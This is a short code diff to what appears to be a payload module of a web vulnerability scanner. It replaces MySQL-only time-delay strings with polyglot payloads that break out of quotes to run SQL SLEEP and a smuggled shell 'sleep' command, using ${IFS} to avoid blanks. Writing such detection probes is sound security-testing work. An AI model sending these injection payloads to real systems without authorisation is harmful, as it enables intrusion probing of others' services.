@@ -25,11 +25,15 @@ _ANYWHERE = (
     ("Oracle", f"{_ORACLE}/*'||{_ORACLE}||'*/", "RECEIVE_MESSAGE", "RECEIVE_MESSAQE"),
 )
 
-MYSQL_WAITS = f"/*'+{_MYSQL}+'\"+{_MYSQL}+\"*/"
-"""Behind any text inside quotes of either kind: MySQL waits `{d}` seconds, and other systems know no such function."""
+# What a POSIX shell runs behind the closing quote is a comment to a database.
+_SHELL = "/*;sleep {d} #*/"
 
-MYSQL_WAITS_BARE = f"'+{_MYSQL.replace(' ', '/**/')}+'"
-"""The same for single quotes, where neither blanks nor double quotes can be sent."""
+SLEEPS = f"/*'{_SHELL}+{_MYSQL}+'\"{_SHELL}+{_MYSQL}+\"*/;sleep {{d}} #"
+"""Behind any text: inside quotes of either kind MySQL waits `{d}` seconds, and other databases know no such function;
+inside quotes or outside of them a POSIX shell does."""
+
+SLEEPS_BARE = f"'/*;sleep${{IFS}}{{d}};#*/+{_MYSQL.replace(' ', '/**/')}+';sleep${{IFS}}{{d}};#"
+"""The same where neither blanks nor double quotes can be sent: inside single quotes, and for the shell outside."""
 
 # A second statement with a comment behind it: only where the first one can be trusted to read.
 _STACKED = (
